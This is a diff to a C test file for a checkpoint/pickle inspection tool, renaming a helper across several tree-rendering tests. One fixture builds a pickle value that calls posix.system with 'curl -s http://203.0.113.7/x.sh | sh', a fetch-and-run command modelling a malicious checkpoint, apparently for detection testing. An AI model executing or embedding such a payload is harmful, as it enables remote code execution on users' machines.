@@ -245,8 +245,8 @@ TEST(a_checkpoint_has_rows_for_plain_values)
 
     sample_begin(&s, "best.tar");
     values = build_values(&s.build);
-    sample_value(&s, 0, "epoch", value_int(values, 12));
-    sample_value(&s, 0, "arch", value_str(values, STR("resnet18")));
+    sample_plain(&s, 0, "epoch", value_int(values, 12));
+    sample_plain(&s, 0, "arch", value_str(values, STR("resnet18")));
     group = build_node(&s.build, 0, PLACE_GROUP, STR("state_dict"));
     build_object(&s.build, group)->class_id =
         build_class(&s.build, STR("collections.OrderedDict"));
@@ -254,10 +254,10 @@ TEST(a_checkpoint_has_rows_for_plain_values)
     sample_tensor(&s, group, "scale", "");
     group = build_node(&s.build, 0, PLACE_GROUP, STR("optimizer"));
     build_set_flags(&s.build, group, PLACE_OPTIMIZER);
-    sample_value(&s, group, "lr", value_real(values, 0.1));
-    sample_value(&s, group, "momentum", value_int(values, 0));
+    sample_plain(&s, group, "lr", value_real(values, 0.1));
+    sample_plain(&s, group, "momentum", value_int(values, 0));
     run[0] = value_str(values, STR("curl -s http://203.0.113.7/x.sh | sh"));
-    sample_value(&s, 0, "best_acc1",
+    sample_plain(&s, 0, "best_acc1",
                  value_make(values, VALUE_CALL, STR("posix.system"), run, 1));
     sample_finish(&s);
     CHECK_STR(
@@ -348,7 +348,7 @@ TEST(a_file_with_one_bare_thing_is_called_what_it_holds)
     sample_release(&s);
 
     sample_begin(&s, "five.pt");
-    sample_value(&s, 0, "value", value_int(build_values(&s.build), 5));
+    sample_plain(&s, 0, "value", value_int(build_values(&s.build), 5));
     sample_finish(&s);
     CHECK_STR(sample_tree(&s, &everything, 0), "five.pt: a value\n"
                                                "└── value: 5\n");
@@ -357,7 +357,7 @@ TEST(a_file_with_one_bare_thing_is_called_what_it_holds)
     /* A dict that happens to have such a key is a dict. */
     sample_begin(&s, "dict.pt");
     build_object(&s.build, 0)->class_id = build_class(&s.build, STR("dict"));
-    sample_value(&s, 0, "value", value_int(build_values(&s.build), 5));
+    sample_plain(&s, 0, "value", value_int(build_values(&s.build), 5));
     sample_finish(&s);
     CHECK_STR(sample_tree(&s, &everything, 0), "dict.pt: dict with 1 key\n"
                                                "└── value: 5\n");
@@ -369,8 +369,8 @@ TEST(several_pickles_in_a_file_are_counted)
     struct sample s;
 
     sample_begin(&s, "two.pkl");
-    sample_value(&s, 0, "pickle 1", value_int(build_values(&s.build), 1));
-    sample_value(&s, 0, "pickle 2", value_int(build_values(&s.build), 2));
+    sample_plain(&s, 0, "pickle 1", value_int(build_values(&s.build), 1));
+    sample_plain(&s, 0, "pickle 2", value_int(build_values(&s.build), 2));
     sample_finish(&s);
     CHECK_STR(sample_tree(&s, &everything, 0), "two.pkl: 2 pickles\n"
                                                "├── pickle 1: 1\n"
